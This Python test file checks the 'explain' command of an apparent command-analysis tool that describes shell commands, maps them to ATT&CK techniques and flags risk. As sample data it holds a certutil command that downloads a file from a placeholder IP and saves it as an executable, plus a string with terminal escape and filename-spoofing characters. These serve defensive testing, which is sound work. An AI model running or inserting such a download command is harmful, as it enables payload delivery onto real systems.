"""``vedette explain`` as a user calls it."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import cli_support
import pytest
from cli_support import Done

DOWNLOAD = r"certutil -urlcache -f http://192.0.2.7/a.txt C:\Users\Public\a.exe"


def call(home: Path, *words: str | Path, stdin: str | bytes = b"") -> Done:
    return cli_support.call("--home", home, *words, stdin=stdin.encode() if isinstance(stdin, str) else stdin)


def test_a_command_is_told_to_people_and_to_programs(tmp_path: Path) -> None:
    told = call(tmp_path, "explain", DOWNLOAD)
    assert told.code == 0, told.err
    assert "http://192.0.2.7/a.txt" in told.out
    assert "T1105" in told.out
    said = json.loads(call(tmp_path, "explain", "--json", DOWNLOAD).out)
    assert said["risky"] is True
    assert said["techniques"][0]["id"] == "T1105"
    assert said["techniques"][0]["span"]["text"]
    assert {"layers", "observables", "techniques", "risk", "steps", "tokens", "touches"} <= set(said)


def test_stdin_files_and_lines(tmp_path: Path) -> None:
    assert json.loads(call(tmp_path, "explain", "--json", stdin="whoami").out)["command"] == "whoami"
    script = tmp_path / "a.ps1"
    script.write_bytes("Write-Host 'hi'".encode("utf-16"))
    said = json.loads(call(tmp_path, "explain", "--json", "--file", str(script)).out)
    assert said["language"] == "powershell"
    many = json.loads(call(tmp_path, "explain", "--json", "--lines", stdin="ls\n\nwhoami\n").out)
    assert [e["command"] for e in many["explanations"]] == ["ls", "whoami"]


def test_the_door_for_programs_keeps_ids_and_goes_on_after_a_bad_line(tmp_path: Path) -> None:
    lines = [{"id": 1, "text": DOWNLOAD}, {"id": "b"}, {"id": 3, "text": "ls", "shell": "bash"}]
    text = "\n".join([*map(json.dumps, lines), "not json"])
    done = call(tmp_path, "explain", "--jsonl", stdin=text)
    assert done.code == 0
    out = [json.loads(line) for line in done.out.splitlines()]
    assert [o["id"] for o in out] == [1, "b", 3, None]
    assert ["error" in o for o in out] == [False, True, False, True]
    assert call(tmp_path, "explain", "--jsonl", stdin="x").code == 2


@pytest.mark.parametrize(
    ("words", "stdin", "says"),
    [
        (("explain", "--shell", "klingon", "x"), b"", "--shell"),
        (("explain",), b"", "empty"),
        (("explain",), b"\x00\x01\x02\xff" * 50, "binary"),
        (("explain", "--file", "nowhere.ps1"), b"", "not there"),
        (("explain", "--tables", "nowhere.yaml", "ls"), b"", "not there"),
    ],
)
def test_a_wrong_call_names_the_cause(tmp_path: Path, words: tuple[str, ...], stdin: bytes, says: str) -> None:
    done = call(tmp_path, *words, stdin=stdin)
    assert done.code == 2
    assert says in done.err
    assert "Traceback" not in done.err


def test_the_exit_code_tells_of_risk(tmp_path: Path) -> None:
    assert call(tmp_path, "explain", "--fail-on", "0.5", DOWNLOAD).code == 1
    assert call(tmp_path, "explain", "--fail-on", "0.5", "ls -la").code == 0


def test_nothing_of_a_command_reaches_the_terminal_raw(tmp_path: Path) -> None:
    hostile = "echo \x1b[2J\x1b]0;owned\x07 \u202egnp.exe"
    for words in (("explain",), ("explain", "--json"), ("explain", "--full")):
        out = call(tmp_path, *words, stdin=hostile).out
        assert "\x1b" not in out
        assert "\u202e" not in out


def test_own_tables_and_learnt_pages_are_used(tmp_path: Path) -> None:
    own = tmp_path / "own.yaml"
    own.write_text(
        "family: unix\nsource: our wiki\ntools:\n  deployit:\n    what: puts our application on a host\n"
        "    flags: {'-e, --environment NAME': chooses where to}\n"
        "    acts: [{if: '-e=prod', does: puts the application into production}]\n",
        encoding="utf-8",
    )
    said = json.loads(call(tmp_path, "explain", "--json", "-s", "bash", "--tables", str(own), "deployit -e prod").out)
    assert said["sentence"] == "Puts the application into production."
    assert any(t["meaning"] == "chooses where to" and t["source"] == "our wiki" for t in said["tokens"])
    own.write_text("family: unix\nsource: x\ntools: {a: {what: b, flagz: {}}}\n", encoding="utf-8")
    wrong = call(tmp_path, "explain", "--tables", str(own), "a")
    assert wrong.code == 2
    assert "flagz" in wrong.err
    help_text = "Usage: frob [OPTION]\n  -q, --quiet      says nothing\n  -o, --output=FILE   writes to FILE\n"
    assert call(tmp_path, "knowledge", "learn", "frob", stdin=help_text).code == 0
    said = json.loads(call(tmp_path, "explain", "--json", "-s", "bash", "frob -q --output=/tmp/x").out)
    assert any(t["text"] == "-q" and t["meaning"] == "says nothing" for t in said["tokens"])


def test_an_encoded_script_is_decoded(tmp_path: Path) -> None:
    code = base64.b64encode("Get-Process".encode("utf-16-le")).decode()
    said = json.loads(call(tmp_path, "explain", "--json", f"powershell -nop -enc {code}").out)
    assert said["layers"][said["final"]]["text"] == "Get-Process"
    assert "utf-16-base64" in said["methods"]
